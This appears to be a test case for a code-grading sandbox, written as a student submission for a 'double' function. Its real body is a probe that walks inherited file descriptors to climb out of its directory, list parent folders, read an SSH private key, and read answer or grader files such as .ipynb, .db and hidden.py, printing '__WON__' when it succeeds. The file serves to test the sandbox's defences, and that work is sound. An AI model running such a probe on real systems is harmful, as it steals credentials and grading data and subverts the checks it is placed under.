# about: Looks for open files and folders that the process was born with, and goes out through them.
# prints: tried

# %% double
import os

for name in os.listdir("/proc/self/fd"):
    number = int(name)
    try:
        target = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        continue
    print(number, target)
    if not target.startswith("/"):
        continue
    if os.path.isdir(f"/proc/self/fd/{name}"):
        for path in ("..", "../..", "../../../../../../..", "__COURSE__"[1:]):
            try:
                print(os.listdir(os.open(path, os.O_RDONLY, dir_fd=number))[:50])
            except OSError as error:
                print(type(error))
        try:
            key = os.open("../../../../../.." + "__HOME__/.ssh/id_ed25519", 0, dir_fd=number)
            print("__WON__", os.read(key, 100))
        except OSError as error:
            print(type(error))
    elif os.path.isfile(f"/proc/self/fd/{name}"):
        try:
            text = os.pread(number, 5000, 0)
            print(text)
            if target.endswith((".json", ".db", ".ipynb", "hidden.py")):
                print("__WON__")
        except OSError as error:
            print(type(error))
print("tried")


def double(x):
    return 0
